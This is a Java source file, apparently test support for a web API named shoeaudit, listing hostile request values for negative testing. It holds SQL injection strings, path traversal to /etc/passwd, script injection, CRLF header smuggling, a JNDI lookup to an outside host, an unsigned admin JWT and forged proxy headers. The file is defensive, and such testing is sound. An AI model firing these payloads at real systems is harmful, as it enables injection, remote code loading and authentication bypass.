package shoeaudit.api;

import java.util.List;
import java.util.Map;

/** What stands in requests that mean harm, and how they are addressed. */
final class HostileValues {
  /** For members, parameters and headers of any name. */
  static final List<String> VALUES =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "1",
          "00000000000000000001",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "1e400",
          "NaN",
          "0x10",
          "1.5",
          "null",
          "true",
          "x",
          "x".repeat(3_000),
          "\u0661\u0662",
          "\u202eabc\u200b",
          "\ud83c\udca1".repeat(20),
          "a\u0000b",
          "a\r\nSet-Cookie: a=b",
          "'; drop table finding; --",
          "%' or '1'='1",
          "%%%s%n{0}${java.version}#{1+1}",
          "../../../etc/passwd",
          "..",
          "<script>alert(1)</script>",
          "{\"a\":1}",
          "[1,2]",
          "2026-02-30",
          "9999-12-31T23:59:59Z",
          "+999999999-12-31T23:59:59.999999999+18:00",
          "-999999999-01-01",
          "0000-00-00",
          "2026-03-02T10:00:00+25:00",
          "P1D",
          "administrator",
          "*",
          "bytes=0-",
          "bytes=-1",
          "bytes=9223372036854775807-",
          "bytes=0-0,1-1,2-2,3-3",
          "\"1\"",
          "W/\"1\"",
          "\"" + "a".repeat(2_000) + "\"");

  /** Of bodies. */
  static final List<String> TYPES =
      List.of(
          "application/json",
          "application/json; charset=utf-16",
          "application/json; charset=no-such",
          "application/xml",
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
          "multipart/form-data; boundary=x",
          "application/octet-stream",
          "*/*",
          "a/b/c",
          "application/" + "x".repeat(500),
          "");

  /** Bodies of no operation. */
  static final List<String> RAW_BODIES =
      List.of(
          "",
          "null",
          "[]",
          "\"x\"",
          "1e999999999",
          "{",
          "{\"a\":",
          "{}{}",
          "{\"a\":1,\"a\":2}",
          "[".repeat(20_000),
          "{\"a\":".repeat(5_000),
          "[" + "1,".repeat(20_000) + "1]",
          "{\"code\":" + "9".repeat(20_000) + "}",
          "{\"\\ud800\":\"\\udc00\"}",
          "\ufeff{}",
          "{'a':1}",
          "{\"a\":NaN}",
          "/* x */{}",
          "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\nx",
          "--x\r\nContent-Disposition: form-data; name=\""
              + "f".repeat(5_000)
              + "\"\r\n\r\nx\r\n--x--",
          "--x\r\n\r\n--x--",
          "event,at,table,shoe,coup\n\u0000,,,,\n");

  /** Other methods than an operation's own. */
  static final List<String> METHODS =
      List.of(
          "HEAD",
          "OPTIONS",
          "TRACE",
          "PATCH",
          "PUT",
          "POST",
          "DELETE",
          "GET",
          "PROPFIND",
          "QUERY",
          "get",
          "X".repeat(300));

  /** Behind an operation's path. */
  static final List<String> ENDS =
      List.of(
          "/",
          "//",
          "/.",
          "/..",
          "/%2e%2e",
          "/%2F",
          "%00",
          ";a=b",
          ".json",
          "/1",
          "%20",
          "%",
          "%zz",
          "%c0%af",
          "/" + "x".repeat(2_000),
          "/" + "a/".repeat(500));

  /** Who somebody says that they are; none of them is anybody. */
  static final List<String> CREDENTIALS =
      List.of(
          "Bearer sa_",
          "Bearer sa_x",
          "Bearer sa_" + "x".repeat(43),
          "Bearer sa_" + "x".repeat(5_000),
          "Bearer",
          "Bearer  sa_x",
          "bearer sa_x",
          "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
          "Bearer a.b.c",
          "Basic YWRtaW46YWRtaW4=",
          "Basic !",
          "Digest username=\"admin\"",
          "Negotiate YII=");

  /** Headers of no operation of its own, each with what clients send there. */
  static final Map<String, List<String>> HEADERS =
      Map.ofEntries(
          Map.entry("Range", List.of("bytes=0-9", "bytes=-0", "bytes=5-2", "lines=1-2")),
          Map.entry("If-None-Match", List.of("*", "\"1\"", "W/\"1\", \"2\"")),
          Map.entry("If-Match", List.of("*", "\"0\"", "\"1\", \"2\"", "W/\"1\"")),
          Map.entry("If-Range", List.of("\"1\"", "Sat, 31 Feb 2026 00:00:00 GMT")),
          Map.entry("If-Modified-Since", List.of("Sat, 31 Feb 2026 00:00:00 GMT", "0")),
          Map.entry("If-Unmodified-Since", List.of("Thu, 01 Jan 1970 00:00:00 GMT")),
          Map.entry(
              "Accept-Encoding",
              List.of(
                  "*", "gzip", "deflate", "br", "zstd", "gzip;q=0, *", "identity;q=0", "a;q=x")),
          Map.entry("Accept", List.of("text/html", "text/plain;q=0", "*/*;q=0", "image/*", "json")),
          Map.entry("Accept-Language", List.of("es", "*;q=0", "xx-" + "y".repeat(300))),
          Map.entry("Content-Encoding", List.of("gzip", "br", "identity", "gzip, gzip")),
          Map.entry("Content-Disposition", List.of("attachment; filename=\"../../x\"")),
          Map.entry(
              "Cookie", List.of("shoe-audit-session=sa_x", "a=b; a=c", "=", "$Version=1; a=b")),
          Map.entry("Origin", List.of("null", "https://else.example")),
          Map.entry("Sec-Fetch-Site", List.of("cross-site")),
          Map.entry("Referer", List.of("https://else.example/")),
          Map.entry("Idempotency-Key", List.of("k", "k".repeat(256))),
          Map.entry("Expect", List.of("100-continue")),
          Map.entry("X-HTTP-Method-Override", List.of("DELETE")),
          Map.entry("X-Request-Id", List.of("1", "${jndi:ldap://else.example/a}")),
          Map.entry("Host", List.of("else.example", "localhost:99999")),
          Map.entry("TE", List.of("trailers")),
          Map.entry("Trailer", List.of("Authorization")));

  /**
   * What the proxy says in front of the service, which is believed: it sets these headers itself,
   * so that none is empty. Quarkus answers nothing where its X-Forwarded-For is.
   */
  static final Map<String, List<String>> OF_PROXIES =
      Map.of(
          "X-Forwarded-For",
          List.of(
              "127.0.0.1",
              "unknown, 10.0.0.1",
              "::1",
              "[2001:db8::1]:99999",
              "203.0.113.9:x",
              "'; drop table account; --",
              "x".repeat(3_000)),
          "X-Forwarded-Proto",
          List.of("https", "http,https", "gopher"),
          "X-Forwarded-Host",
          List.of("else.example", "else.example:99999", "a b"),
          "X-Forwarded-Prefix",
          List.of("/x", "//else.example", "/.."),
          "X-Forwarded-Port",
          List.of("1", "x", "-1", "99999"),
          "X-Forwarded-Ssl",
          List.of("on", "off"),
          "Forwarded",
          List.of("for=127.0.0.1;proto=https;host=else.example", "for=_x", "for=\"[::1\""));

  private HostileValues() {}
}
